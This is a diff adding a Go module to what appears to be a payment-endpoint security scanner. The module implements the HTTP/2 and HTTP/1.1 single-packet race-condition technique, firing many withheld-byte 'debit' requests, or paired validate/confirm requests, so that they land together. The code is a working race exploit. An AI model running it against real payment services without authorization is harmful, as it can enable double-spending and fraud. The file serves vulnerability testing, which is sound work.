@@ -0,0 +1,458 @@
+package scanner
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/tls"
+	"fmt"
+	"net"
+	"net/http"
+	"net/url"
+	"strconv"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+
+	"github.com/SpaceLeam/web-Payment-scanner/internal/models"
+	"github.com/SpaceLeam/web-Payment-scanner/internal/utils"
+)
+
+// singlePacketBody is the JSON payload every stream in the burst sends,
+// with its closing brace withheld until the final flush - see
+// testRaceSinglePacket.
+var singlePacketBody = []byte(`{"amount":100,"currency":"USD","action":"debit"`)
+
+// singlePacketBodyTail is the byte(s) withheld from singlePacketBody and
+// written only in the final, single-syscall flush.
+var singlePacketBodyTail = []byte(`}`)
+
+// testRaceSinglePacket implements James Kettle's single-packet attack: open
+// one connection, get every request's headers and all-but-the-last-byte of
+// its body in front of the server, then release the final byte of every
+// request in one Write() call. That collapses the request arrival jitter a
+// goroutine barrier leaves (1-50ms, enough for most DB transactions to
+// serialize) down to whatever a single TCP segment costs (~1ms),
+// regardless of the round-trip latency to the target.
+//
+// HTTP/2 is used when the endpoint's TLS handshake negotiates h2 via ALPN,
+// since its multiplexed streams are exactly what this needs - multiple
+// in-flight requests on one connection. Otherwise it falls back to
+// HTTP/1.1 request pipelining over the same connection, which gets the
+// same single-packet property at the cost of the server processing
+// responses in sequence.
+func testRaceSinglePacket(endpoint models.Endpoint, session *models.Session, concurrency int) ([]models.Vulnerability, error) {
+	u, err := url.Parse(endpoint.URL)
+	if err != nil {
+		return nil, fmt.Errorf("parsing endpoint URL: %w", err)
+	}
+
+	if u.Scheme != "https" {
+		return testRaceSinglePacketH1(endpoint, session, concurrency, nil)
+	}
+
+	conn, err := dialForSinglePacket(u, session, endpoint)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close()
+
+	if conn.ConnectionState().NegotiatedProtocol == http2.NextProtoTLS {
+		return testRaceSinglePacketH2(conn, u, endpoint, session, concurrency)
+	}
+	return testRaceSinglePacketH1(endpoint, session, concurrency, conn)
+}
+
+// dialForSinglePacket opens the raw TLS connection the rest of this file
+// multiplexes requests over, negotiating h2 over http/1.1 via ALPN so the
+// caller can pick a strategy based on what the server actually speaks. TLS
+// config (insecure-skip-verify, client cert, CA bundle) comes from
+// session/endpoint the same way every other transport in this series gets
+// it, so this dials the tool's own self-signed test targets just as
+// reliably as testRaceConditionEnhanced's http.Client does.
+func dialForSinglePacket(u *url.URL, session *models.Session, endpoint models.Endpoint) (*tls.Conn, error) {
+	host := u.Host
+	if u.Port() == "" {
+		host = net.JoinHostPort(u.Hostname(), "443")
+	}
+
+	tlsCfg := utils.TLSClientConfigForEndpoint(session, endpoint)
+	if tlsCfg.ServerName == "" {
+		tlsCfg.ServerName = u.Hostname()
+	}
+	tlsCfg.NextProtos = []string{http2.NextProtoTLS, "http/1.1"}
+
+	d := &tls.Dialer{Config: tlsCfg}
+	rawConn, err := d.Dial("tcp", host)
+	if err != nil {
+		return nil, fmt.Errorf("dialing %s: %w", host, err)
+	}
+	return rawConn.(*tls.Conn), nil
+}
+
+// testRaceSinglePacketH2 writes a HEADERS + partial DATA frame per stream
+// for concurrency streams, flushes every stream's final DATA frame
+// (END_STREAM set) in a single buffered-writer Flush, then reads back every
+// response and feeds them to analyzeRaceResults.
+func testRaceSinglePacketH2(conn *tls.Conn, u *url.URL, endpoint models.Endpoint, session *models.Session, concurrency int) ([]models.Vulnerability, error) {
+	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
+		return nil, fmt.Errorf("writing client preface: %w", err)
+	}
+
+	// Framer writes land in this bufio.Writer, not directly on the socket,
+	// so the final DATA frames carrying the withheld bytes sit in one
+	// userspace buffer until the last Flush() turns them into one TCP
+	// write (the HEADERS/partial DATA frames are flushed before that).
+	bw := bufio.NewWriterSize(conn, 64*1024)
+	framer := http2.NewFramer(bw, conn)
+	framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
+
+	if err := framer.WriteSettings(); err != nil {
+		return nil, fmt.Errorf("writing SETTINGS: %w", err)
+	}
+	if err := framer.WriteWindowUpdate(0, 1<<20); err != nil {
+		return nil, fmt.Errorf("writing WINDOW_UPDATE: %w", err)
+	}
+	if err := bw.Flush(); err != nil {
+		return nil, fmt.Errorf("flushing connection preamble: %w", err)
+	}
+
+	var hbuf bytes.Buffer
+	henc := hpack.NewEncoder(&hbuf)
+
+	streamIDs := make([]uint32, concurrency)
+	for i := 0; i < concurrency; i++ {
+		streamID := uint32(2*i + 1)
+		streamIDs[i] = streamID
+
+		hbuf.Reset()
+		writeRequestHeaders(henc, u, session)
+
+		if err := framer.WriteHeaders(http2.HeadersFrameParam{
+			StreamID:      streamID,
+			BlockFragment: hbuf.Bytes(),
+			EndHeaders:    true,
+		}); err != nil {
+			return nil, fmt.Errorf("writing HEADERS for stream %d: %w", streamID, err)
+		}
+
+		if err := framer.WriteData(streamID, false, singlePacketBody); err != nil {
+			return nil, fmt.Errorf("writing partial DATA for stream %d: %w", streamID, err)
+		}
+	}
+
+	// Flush every HEADERS/partial-DATA frame written above onto the wire
+	// now, so they actually reach the server before the withheld bytes do.
+	if err := bw.Flush(); err != nil {
+		return nil, fmt.Errorf("flushing partial requests: %w", err)
+	}
+	time.Sleep(150 * time.Millisecond)
+
+	dispatch := make([]time.Time, concurrency)
+	for i, streamID := range streamIDs {
+		dispatch[i] = time.Now()
+		if err := framer.WriteData(streamID, true, singlePacketBodyTail); err != nil {
+			return nil, fmt.Errorf("writing final DATA for stream %d: %w", streamID, err)
+		}
+	}
+	if err := bw.Flush(); err != nil {
+		return nil, fmt.Errorf("flushing single-packet burst: %w", err)
+	}
+	firstDispatch := dispatch[0]
+
+	conn.SetReadDeadline(time.Now().Add(30 * time.Second))
+	results := readH2Responses(framer, streamIDs, dispatch, firstDispatch)
+	return analyzeRaceResults(endpoint, results), nil
+}
+
+// readH2Responses drains HEADERS/DATA frames off framer until every stream
+// in streamIDs has seen END_STREAM (or the read deadline trips), collecting
+// one RaceResult per stream.
+func readH2Responses(framer *http2.Framer, streamIDs []uint32, dispatch []time.Time, firstDispatch time.Time) []*RaceResult {
+	pending := make(map[uint32]*RaceResult, len(streamIDs))
+	for i, id := range streamIDs {
+		pending[id] = &RaceResult{
+			ID:           i,
+			StartTime:    dispatch[i],
+			ArrivalDelta: dispatch[i].Sub(firstDispatch),
+		}
+	}
+
+	remaining := len(pending)
+	for remaining > 0 {
+		frame, err := framer.ReadFrame()
+		if err != nil {
+			break
+		}
+
+		switch f := frame.(type) {
+		case *http2.MetaHeadersFrame:
+			r, ok := pending[f.StreamID]
+			if !ok {
+				continue
+			}
+			for _, field := range f.Fields {
+				if field.Name == ":status" {
+					r.StatusCode, _ = strconv.Atoi(field.Value)
+				}
+			}
+			if f.StreamEnded() {
+				r.EndTime = time.Now()
+				r.Duration = r.EndTime.Sub(r.StartTime)
+				remaining--
+			}
+		case *http2.DataFrame:
+			r, ok := pending[f.StreamID]
+			if !ok {
+				continue
+			}
+			r.Body += string(f.Data())
+			if f.StreamEnded() {
+				r.EndTime = time.Now()
+				r.Duration = r.EndTime.Sub(r.StartTime)
+				remaining--
+			}
+		}
+	}
+
+	// Return in streamIDs order (not map iteration order) so callers that
+	// care which result goes with which request - e.g.
+	// testTwoEndpointSinglePacket's validate/confirm pair - can index
+	// straight into it.
+	results := make([]*RaceResult, len(streamIDs))
+	for i, id := range streamIDs {
+		results[i] = pending[id]
+	}
+	return results
+}
+
+// writeRequestHeaders hpack-encodes the pseudo-headers plus auth
+// headers/cookies for a single stream of the burst into enc.
+func writeRequestHeaders(enc *hpack.Encoder, u *url.URL, session *models.Session) {
+	path := u.RequestURI()
+	enc.WriteField(hpack.HeaderField{Name: ":method", Value: "POST"})
+	enc.WriteField(hpack.HeaderField{Name: ":path", Value: path})
+	enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: "https"})
+	enc.WriteField(hpack.HeaderField{Name: ":authority", Value: u.Host})
+	enc.WriteField(hpack.HeaderField{Name: "content-type", Value: "application/json"})
+
+	for k, v := range session.Headers {
+		enc.WriteField(hpack.HeaderField{Name: toLowerHeader(k), Value: v})
+	}
+	if cookie := sessionCookieHeader(session); cookie != "" {
+		enc.WriteField(hpack.HeaderField{Name: "cookie", Value: cookie})
+	}
+}
+
+// sessionCookieHeader flattens session.Cookies into a single `Cookie:`
+// header value the way net/http would send it on the wire.
+func sessionCookieHeader(session *models.Session) string {
+	if len(session.Cookies) == 0 {
+		return ""
+	}
+	jar := http.Header{}
+	req := &http.Request{Header: jar}
+	for k, v := range session.Cookies {
+		req.AddCookie(&http.Cookie{Name: k, Value: v})
+	}
+	return jar.Get("Cookie")
+}
+
+// testRaceSinglePacketH1 applies the same single-packet idea over HTTP/1.1
+// request pipelining: write every request's status line/headers/partial
+// body onto conn (dialing one if conn is nil, for plain-HTTP endpoints or
+// a server that didn't negotiate h2), withhold the final body byte of each,
+// then flush them all in one Write and read the pipelined responses back
+// in order. Pipelining only gives strict request ordering, not the
+// multiplexed concurrency HTTP/2 streams provide, but the server still
+// receives every request's last byte in the same TCP segment.
+func testRaceSinglePacketH1(endpoint models.Endpoint, session *models.Session, concurrency int, conn net.Conn) ([]models.Vulnerability, error) {
+	u, err := url.Parse(endpoint.URL)
+	if err != nil {
+		return nil, fmt.Errorf("parsing endpoint URL: %w", err)
+	}
+
+	if conn == nil {
+		host := u.Host
+		if u.Port() == "" {
+			host = net.JoinHostPort(u.Hostname(), "80")
+		}
+		conn, err = net.Dial("tcp", host)
+		if err != nil {
+			return nil, fmt.Errorf("dialing %s: %w", host, err)
+		}
+		defer conn.Close()
+	}
+
+	bw := bufio.NewWriterSize(conn, 64*1024)
+	cookie := sessionCookieHeader(session)
+
+	for i := 0; i < concurrency; i++ {
+		fmt.Fprintf(bw, "POST %s HTTP/1.1\r\n", u.RequestURI())
+		fmt.Fprintf(bw, "Host: %s\r\n", u.Host)
+		fmt.Fprintf(bw, "Content-Type: application/json\r\n")
+		fmt.Fprintf(bw, "Content-Length: %d\r\n", len(singlePacketBody)+len(singlePacketBodyTail))
+		for k, v := range session.Headers {
+			fmt.Fprintf(bw, "%s: %s\r\n", k, v)
+		}
+		if cookie != "" {
+			fmt.Fprintf(bw, "Cookie: %s\r\n", cookie)
+		}
+		bw.WriteString("\r\n")
+		bw.Write(singlePacketBody)
+	}
+
+	// Flush every request's status line/headers/partial body onto the wire
+	// now, so they actually reach the server before the withheld bytes do.
+	if err := bw.Flush(); err != nil {
+		return nil, fmt.Errorf("flushing partial requests: %w", err)
+	}
+	time.Sleep(150 * time.Millisecond)
+
+	dispatch := make([]time.Time, concurrency)
+	for i := 0; i < concurrency; i++ {
+		dispatch[i] = time.Now()
+		bw.Write(singlePacketBodyTail)
+	}
+	if err := bw.Flush(); err != nil {
+		return nil, fmt.Errorf("flushing single-packet burst: %w", err)
+	}
+	firstDispatch := dispatch[0]
+
+	br := bufio.NewReader(conn)
+	results := make([]*RaceResult, 0, concurrency)
+	for i := 0; i < concurrency; i++ {
+		resp, err := http.ReadResponse(br, nil)
+		if err != nil {
+			break
+		}
+		body := make([]byte, 4096)
+		n, _ := resp.Body.Read(body)
+		resp.Body.Close()
+		endTime := time.Now()
+
+		results = append(results, &RaceResult{
+			ID:           i,
+			StatusCode:   resp.StatusCode,
+			Body:         string(body[:n]),
+			StartTime:    dispatch[i],
+			EndTime:      endTime,
+			Duration:     endTime.Sub(dispatch[i]),
+			ArrivalDelta: dispatch[i].Sub(firstDispatch),
+		})
+	}
+
+	return analyzeRaceResults(endpoint, results), nil
+}
+
+func toLowerHeader(s string) string {
+	b := []byte(s)
+	for i, c := range b {
+		if c >= 'A' && c <= 'Z' {
+			b[i] = c + ('a' - 'A')
+		}
+	}
+	return string(b)
+}
+
+// testTwoEndpointSinglePacket is testRaceSinglePacket's multi-endpoint
+// sibling: instead of racing concurrency copies of one endpoint, it races
+// validateURL against confirmURL - one HTTP/2 stream each - withholding the
+// final byte of both until a single Flush() releases them together. Used
+// by testValidateConfirmRace to check whether a confirmation step still
+// succeeds when raced against the validation step it's supposed to depend
+// on. Requires https with an h2 ALPN handshake; returns an error otherwise
+// so the caller can skip the pair rather than report a false negative.
+func testTwoEndpointSinglePacket(validateEndpoint models.Endpoint, confirmURL string, session *models.Session) ([]*RaceResult, error) {
+	u, err := url.Parse(validateEndpoint.URL)
+	if err != nil {
+		return nil, fmt.Errorf("parsing validate URL: %w", err)
+	}
+	confirm, err := url.Parse(confirmURL)
+	if err != nil {
+		return nil, fmt.Errorf("parsing confirm URL: %w", err)
+	}
+	if u.Scheme != "https" {
+		return nil, fmt.Errorf("multi-endpoint single-packet race requires https, got %s", u.Scheme)
+	}
+
+	conn, err := dialForSinglePacket(u, session, validateEndpoint)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close()
+
+	if conn.ConnectionState().NegotiatedProtocol != http2.NextProtoTLS {
+		return nil, fmt.Errorf("target did not negotiate h2")
+	}
+
+	return twoEndpointSinglePacketH2(conn, []*url.URL{u, confirm}, session)
+}
+
+// twoEndpointSinglePacketH2 is testRaceSinglePacketH2 generalized from
+// "concurrency copies of one URL" to "one stream per URL in urls", so it
+// can race distinct validate/confirm requests instead of identical ones.
+func twoEndpointSinglePacketH2(conn *tls.Conn, urls []*url.URL, session *models.Session) ([]*RaceResult, error) {
+	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
+		return nil, fmt.Errorf("writing client preface: %w", err)
+	}
+
+	bw := bufio.NewWriterSize(conn, 64*1024)
+	framer := http2.NewFramer(bw, conn)
+	framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
+
+	if err := framer.WriteSettings(); err != nil {
+		return nil, fmt.Errorf("writing SETTINGS: %w", err)
+	}
+	if err := framer.WriteWindowUpdate(0, 1<<20); err != nil {
+		return nil, fmt.Errorf("writing WINDOW_UPDATE: %w", err)
+	}
+	if err := bw.Flush(); err != nil {
+		return nil, fmt.Errorf("flushing connection preamble: %w", err)
+	}
+
+	var hbuf bytes.Buffer
+	henc := hpack.NewEncoder(&hbuf)
+
+	streamIDs := make([]uint32, len(urls))
+	for i, u := range urls {
+		streamID := uint32(2*i + 1)
+		streamIDs[i] = streamID
+
+		hbuf.Reset()
+		writeRequestHeaders(henc, u, session)
+
+		if err := framer.WriteHeaders(http2.HeadersFrameParam{
+			StreamID:      streamID,
+			BlockFragment: hbuf.Bytes(),
+			EndHeaders:    true,
+		}); err != nil {
+			return nil, fmt.Errorf("writing HEADERS for stream %d: %w", streamID, err)
+		}
+		if err := framer.WriteData(streamID, false, singlePacketBody); err != nil {
+			return nil, fmt.Errorf("writing partial DATA for stream %d: %w", streamID, err)
+		}
+	}
+
+	// Flush every HEADERS/partial-DATA frame written above onto the wire
+	// now, so they actually reach the server before the withheld bytes do.
+	if err := bw.Flush(); err != nil {
+		return nil, fmt.Errorf("flushing partial requests: %w", err)
+	}
+	time.Sleep(150 * time.Millisecond)
+
+	dispatch := make([]time.Time, len(urls))
+	for i, streamID := range streamIDs {
+		dispatch[i] = time.Now()
+		if err := framer.WriteData(streamID, true, singlePacketBodyTail); err != nil {
+			return nil, fmt.Errorf("writing final DATA for stream %d: %w", streamID, err)
+		}
+	}
+	if err := bw.Flush(); err != nil {
+		return nil, fmt.Errorf("flushing single-packet burst: %w", err)
+	}
+	firstDispatch := dispatch[0]
+
+	conn.SetReadDeadline(time.Now().Add(30 * time.Second))
+	return readH2Responses(framer, streamIDs, dispatch, firstDispatch), nil
+}